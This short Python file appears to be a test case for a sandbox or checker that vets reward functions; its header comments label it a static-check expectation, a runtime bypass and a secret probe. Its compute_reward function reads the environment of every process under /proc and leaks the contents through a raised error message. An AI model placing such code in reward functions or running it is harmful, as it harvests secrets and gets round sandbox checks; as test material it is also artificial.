# expect: static:no-import
# bypass: runtime:runtime-error
# probe: secret
import os


def compute_reward(state, action, next_state):
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as handle:
                    found.append(handle.read().decode(errors="replace"))
            except OSError:
                pass
    raise ValueError(" | ".join(found))
